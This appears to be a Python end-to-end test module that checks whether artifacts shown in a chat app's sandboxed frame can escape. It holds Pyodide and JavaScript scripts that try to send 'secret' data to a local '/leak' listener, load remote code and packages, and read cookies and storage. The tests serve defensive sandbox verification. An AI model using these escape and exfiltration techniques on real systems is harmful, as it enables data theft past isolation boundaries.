"""Artifacts of the kinds that a sandboxed frame shows, and attempts to get out of such a frame."""

from __future__ import annotations

import socket
from threading import Thread
from types import TracebackType

from playwright.sync_api import FilePayload, expect

from doubles.script import Call, Text
from tests.e2e.pages import ChatPage
from tests.e2e.scripted_provider import ScriptedProvider

_CREATE = """
async ({url, body}) => {
  const { csrfToken } = JSON.parse(document.getElementById('boot').textContent)
  const headers = { 'content-type': 'application/json', 'X-CSRFToken': csrfToken }
  const answer = await fetch(url, { method: 'POST', headers, body: JSON.stringify(body) })
  if (!answer.ok) throw new Error(await answer.text())
}
"""


class Listener:
    """A port of this machine that keeps what is sent to it. Browsers may open a connection before they look at a policy, and send nothing."""

    def __init__(self) -> None:
        self.requests: list[bytes] = []
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self._socket.getsockname()[1]}/leak"

    def __enter__(self) -> Listener:
        Thread(target=self._listen, daemon=True).start()
        return self

    def __exit__(self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None) -> None:
        self._socket.close()

    def _listen(self) -> None:
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:  # closed
                return
            Thread(target=self._read, args=[connection], daemon=True).start()

    def _read(self, connection: socket.socket) -> None:
        with connection:
            if request := connection.recv(200):
                self.requests.append(request)


# Prints OPEN and the name of each attempt that did not fail; OUTSIDE and OWN are addresses.
PYTHON_ATTACKS = """
import inspect

def js(name):
    import js
    return getattr(js, name)

def run_js(code):
    from pyodide.code import run_js
    return run_js(code)

async def pyfetch(url):
    from pyodide.http import pyfetch
    return await pyfetch(url)

def by_socket(url):
    import socket
    host, port = url.split('/')[2].split(':')
    connection = socket.create_connection((host, int(port)), 2)
    connection.sendall(b'GET / HTTP/1.0')
    if not connection.recv(1):
        raise OSError

async def package(url):
    import pyodide_js
    await pyodide_js.loadPackage(url + '/evil-1.0-py3-none-any.whl')
    import evil

async def micropip(url):
    import micropip
    await micropip.install(url)

def constructed(code):
    import js
    return js.Object.constructor(code)()

def urlopen(url):
    import urllib.request
    return urllib.request.urlopen(url, timeout=2)

ATTACKS = [lambda name=name: js(name) for name in (
    'XMLHttpRequest', 'WebSocket', 'EventSource', 'Worker', 'indexedDB', 'caches', 'document', 'cookieStore', 'localStorage',
    'parent', 'top', 'self', 'window', 'globalThis', 'navigator', 'location', 'postMessage', 'importScripts', 'BroadcastChannel')]
for url in (OUTSIDE, OWN):
    ATTACKS += [
        lambda url=url: js('fetch')(url), lambda url=url: run_js(f'fetch({url!r})'), lambda url=url: pyfetch(url), lambda url=url: by_socket(url),
        lambda url=url: package(url), lambda url=url: micropip(url), lambda url=url: urlopen(url),
        lambda url=url: constructed(f'return fetch({url!r})')]
for attack in ATTACKS:
    try:
        result = attack()
        if inspect.isawaitable(result):
            result = await result
        print('OPEN', attack.__code__.co_names, attack.__defaults__, result)
    except BaseException as error:
        pass
print('done')
"""

# What any script in the worker reaches: the names of the attempts that did not fail.
JS_IN_THE_WORKER = """
async (url) => {
  const open = []
  const attempt = async (name, attack) => { try { await attack(); open.push(name) } catch { /* as it should be */ } }
  const opened = (target, good) => new Promise((resolve, reject) => { target[good] = resolve; target.onerror = reject })
  await attempt('fetch', () => fetch(url))
  await attempt('blind post', () => fetch(url, { method: 'POST', mode: 'no-cors', body: 'secret' }))
  await attempt('xhr', () => { const request = new XMLHttpRequest(); request.open('GET', url, false); request.send() })
  await attempt('socket', () => opened(new WebSocket(url.replace('http', 'ws')), 'onopen'))
  await attempt('events', () => opened(new EventSource(url), 'onopen'))
  await attempt('worker', () => opened(new Worker(url), 'onmessage'))
  await attempt('import', () => import(url))
  await attempt('importScripts', () => importScripts(url))
  await attempt('eval', () => (0, eval)('1'))
  await attempt('indexedDB', () => opened(indexedDB.open('x'), 'onsuccess'))
  await attempt('caches', () => caches.open('x'))
  await attempt('files', () => navigator.storage.getDirectory())
  await attempt('cookies', () => cookieStore.getAll())
  return open
}
"""

JS_IN_THE_FRAME = """
async (url) => {
  const open = []
  const attempt = async (name, attack) => { try { await attack(); open.push(name) } catch { /* as it should be */ } }
  const loaded = (name, set) => new Promise((resolve, reject) => {
    const element = document.createElement(name)
    element.onload = resolve
    element.onerror = reject
    set(element)
    document.body.append(element)
    setTimeout(reject, 1000)
  })
  await attempt('fetch', () => fetch(url))
  await attempt('beacon', () => { if (!navigator.sendBeacon(url, 'secret')) throw new Error() ; return fetch(url) })
  await attempt('image', () => loaded('img', (image) => { image.src = url }))
  await attempt('frame', () => loaded('iframe', (frame) => { frame.src = url }).then(() => { throw new Error() }))
  await attempt('script', () => loaded('script', (script) => { script.src = url }))
  await attempt('style', () => loaded('link', (link) => { link.rel = 'stylesheet'; link.href = url }))
  await attempt('page', () => parent.document.body)
  await attempt('cookie', () => document.cookie)
  await attempt('localStorage', () => localStorage.length)
  await attempt('sessionStorage', () => sessionStorage.length)
  await attempt('popup', () => { if (!window.open(url)) throw new Error() })
  await attempt('page away', () => { top.location = url })
  const form = document.createElement('form')
  form.action = url
  form.method = 'post'
  document.body.append(form)
  form.submit()
  await new Promise((resolve) => setTimeout(resolve, 500))
  return open
}
"""


def add_artifact(chat: ChatPage, kind: str, title: str, content: str) -> None:
    """One more artifact of the open conversation, as a member makes it."""
    url = f"{chat.home}api/conversations/{chat.conversation_id}/artifacts/"
    chat.page.evaluate(_CREATE, {"url": url, "body": {"title": title, "kind": kind, "content": content}})


def open_artifact(
    chat: ChatPage, model: ScriptedProvider, kind: str, title: str, content: str, *, files: dict[str, bytes] | None = None
) -> ChatPage:
    """A new conversation in which an agent has written one program or diagram, which is open in the panel."""
    model.answer_chat(Call(f"{kind}_agent", {"operation": "create", "title": title, "instruction": f"Write {title}."}))
    model.answer_document(Text(f"```{kind}\n{content}\n```"))
    model.answer_chat(Text("It is written."))
    chat.open()
    if files:
        payloads = [FilePayload(name=name, mimeType="text/csv", buffer=content) for name, content in files.items()]
        chat.page.locator("input[type=file]").set_input_files(payloads)
        expect(chat.page.get_by_role("list", name="Files to send").get_by_role("listitem")).to_have_count(len(files))
        expect(chat.page.get_by_role("progressbar")).to_have_count(0)  # a message waits for its files, and Enter would send none
    chat.ask(f"We need {title}.")
    chat.panel.shows_version(1, of=1)
    return chat
